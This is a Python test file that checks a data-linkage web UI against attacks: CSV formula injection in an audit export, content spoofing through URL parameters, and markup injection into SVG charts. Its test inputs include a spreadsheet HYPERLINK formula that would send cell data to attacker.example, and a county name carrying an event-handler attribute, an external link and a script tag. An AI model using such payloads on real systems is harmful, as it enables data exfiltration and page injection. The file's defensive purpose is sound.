"""Attacks on the web UI by an outsider and by insiders of each role, each a test that
the UI refuses or defuses it."""

import csv
import io

import pytest
from tests.web.conftest import csrf_of, typed_of

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs
FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"open")'


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_a_formula_typed_as_a_username_does_not_run_in_the_audit_export(ui):
    """An outsider signs in as a formula: the failure is audited under that name, and the
    privacy officer's export must not hand it to a spreadsheet as a formula."""
    c = ui.client()
    page = c.get("/ui/sign-in")
    c.post(
        "/ui/sign-in", data={"username": FORMULA, "password": "x" * 12, "csrf": csrf_of(page.text)}
    )
    export = ui.sign_in("cdo.privacy").get("/ui/audit/export.csv")
    assert export.status_code == 200
    found = cells(export.text)
    assert "'" + FORMULA in found
    assert not [c for c in found if c.startswith(FORMULA_STARTS)]


def test_a_link_cannot_put_words_on_the_linkage_page(ui):
    # The attack (content spoofing): the notice after a decision was read from the
    # address, so a link sent to a steward showed any text on a Crosswalk page.
    c = ui.sign_in("cdo.linkage")
    spoof = "your session has ended: call 555-0100 to restore it"
    page = c.get("/ui/linkage", params={"decided": spoof}).text
    assert "555-0100" not in page
    forged = c.get("/ui/linkage", params={"decided": spoof, "mac": "0" * 64}).text
    assert "555-0100" not in forged


def test_a_county_that_reads_like_markup_is_drawn_as_text_not_refused():
    """A hostile extract names a county ``CENTRAL ONLOAD=1``: the chart's SVG repeats it
    (escaped) in its text and its marks' labels. The check for markup searched the SVG as
    text, took the county for an event handler and failed the dashboard's by-county
    trends for every analyst (a 500)."""
    from datetime import date

    import pyarrow as pa

    from crosswalk import analytics
    from crosswalk.web.charts import svg

    county = 'CENTRAL ONLOAD=1 STYLE=X HREF="HTTP://ATTACKER.EXAMPLE/" <SCRIPT>'
    table = pa.table(
        {
            "month": [date(2020, 1, 1), date(2020, 1, 1)],
            "program": ["SNAP", "SNAP"],
            "county": [county, "EAST"],
            "people": [120, None],
        }
    )
    drawn = str(svg(analytics.chart("trends", table, "Monthly enrolment"), "Monthly enrolment"))
    assert "CENTRAL ONLOAD=1" in drawn and "&lt;SCRIPT&gt;" in drawn
    assert "<SCRIPT" not in drawn.upper().replace("&LT;SCRIPT", "")


def test_a_chart_that_links_out_or_styles_itself_is_still_refused():
    from crosswalk.web.charts import svg

    def bars(**encoding):
        return {
            "data": {"values": [{"c": "A", "n": 3, "u": "https://attacker.example/"}]},
            "mark": "bar",
            "encoding": {
                "x": {"field": "c", "type": "nominal"},
                "y": {"field": "n", "type": "quantitative"},
                **encoding,
            },
        }

    assert "<svg" in str(svg(bars(), "bars"))
    with pytest.raises(ValueError, match="markup a page may not show"):
        svg(bars(href={"field": "u"}), "bars")


def test_a_link_cannot_put_words_on_the_person_page(ui):
    # The attack (content spoofing): the refusal quoted the id asked for, and the search
    # box held it, so a link sent to a caseworker showed 32 characters of its sender's on
    # a Crosswalk page: "no person 'call 555-0100 to restore' in the records you may see".
    c = ui.sign_in("ana")
    page = c.get("/ui/person", params={"id": "call 555-0100 to restore"})
    assert page.status_code == 200
    assert "555-0100" not in page.text and "not an enterprise id" in page.text
    unknown = c.get("/ui/person", params={"id": "P9999999999"}).text
    assert "no person &#39;P9999999999&#39; in the records you may see" in unknown


@pytest.mark.parametrize(
    "query",
    [
        {"view": "call 555-0100"},
        {"view": "pathways", "program": "CALL 555-0100 TO RESTORE ACCESS"},
        {"view": "cohort", "outcomes": ["CALL", "555-0100", "TO", "RESTORE"]},
        {"view": "overlap", "asked": "true", "programs": ["CALL 555-0100"]},
        {"view": "overlap", "asked": "true", "age_group": "call 555-0100"},
        {"view": "overlap", "asked": "true", "start": "555-0100"},
    ],
    ids=["view", "program", "outcomes", "programs", "age-group", "date"],
)
def test_a_link_cannot_put_words_on_the_dashboard(ui, query):
    # The attack (content spoofing): the dashboard's refusals repeated what the link
    # sent: "unknown program 'CALL 555-0100 TO RESTORE ACCESS'", or up to 32 outcomes of
    # 64 characters each, on a Crosswalk page shown to a signed-in analyst.
    page = ui.sign_in("ada").get("/ui/dashboard", params=query)
    assert page.status_code in (400, 422), page.status_code
    assert "555-0100" not in page.text


@pytest.mark.parametrize(
    ("who", "path"),
    [
        ("ada", "/ui/requests/call 555-0100 to restore"),
        ("fcs.steward", "/ui/jobs/call 555-0100 to restore"),
        ("fcs.steward", "/ui/batches/CALL 555-0100 TO RESTORE YOUR ACCESS NOW"),
    ],
    ids=["request", "job", "batch"],
)
def test_a_link_cannot_put_words_on_an_objects_page(ui, who, path):
    # The attack (content spoofing): the id in the address was shown on the page, as the
    # batch's heading or in the refusal ("no data request 'call 555-0100 to restore'").
    page = ui.sign_in(who).get(path)
    assert page.status_code == 404, page.status_code
    assert "555-0100" not in page.text and "no such" in page.text


def test_the_audit_export_is_the_search_shown_whatever_a_filter_holds(ui):
    """The attack (parameter injection): the audit page built its export link by pasting
    the filters' values into the address, so a link whose filter held ``&`` gave the privacy
    officer a page of one search (no entries for the user ``nobody&action=session.failed``)
    and an export of another (every failed sign-in)."""
    import html
    import re
    from urllib.parse import parse_qs, urlsplit

    c = ui.sign_in("cdo.privacy")
    asked = {"user": "nobody&action=session.failed", "purpose": "a+b#c"}
    page = c.get("/ui/audit", params={**asked, "typed": typed_of(c.get("/ui/audit").text)})
    assert page.status_code == 200
    link = html.unescape(re.search(r'href="(/ui/audit/export\.csv[^"]*)"', page.text).group(1))
    sent = {k: v[0] for k, v in parse_qs(urlsplit(link).query).items()}
    assert sent.pop("typed") and sent == asked
    export = c.get(link)
    assert export.status_code == 200
    assert len(list(csv.reader(io.StringIO(export.text)))) == 1  # the header: nothing found


SPOOF = "CALL 555-0100 TO RESTORE ACCESS"


@pytest.mark.parametrize(
    ("who", "page", "box"),
    [
        ("ada", "/ui/dashboard?view=trends", "county"),
        ("cdo.privacy", "/ui/audit", "user"),
        ("cdo.privacy", "/ui/audit", "purpose"),
        ("cdo.privacy", "/ui/audit", "action"),
        ("cdo.privacy", "/ui/audit", "person"),
    ],
)
def test_a_link_cannot_put_words_in_a_search_box(ui, who, page, box):
    """The attack (content spoofing): a link to the dashboard with a county, or to the
    audit page with a user, purpose, action or person of the sender's choosing, showed the
    sender's words in the page's box (and the audit page searched for them). Free text is
    taken only with the proof, carried by the page's own form, that this session typed it;
    a link's is refused in fixed words, shown neither in the refusal nor in the box."""
    c = ui.sign_in(who)
    refused = c.get(page, params={box: SPOOF})
    assert refused.status_code == 422
    assert "555-0100" not in refused.text
    forged = c.get(page, params={box: SPOOF, "typed": "0" * 64})
    assert forged.status_code == 422 and "555-0100" not in forged.text
    stolen = typed_of(ui.sign_in(who).get(page).text)  # another session's proof: no proof
    assert c.get(page, params={box: SPOOF, "typed": stolen}).status_code == 422
    typed = c.get(page, params={box: SPOOF, "typed": typed_of(c.get(page).text)})
    assert typed.status_code == 200
    assert f'value="{SPOOF}"' in typed.text  # typed on the page itself: kept in its box
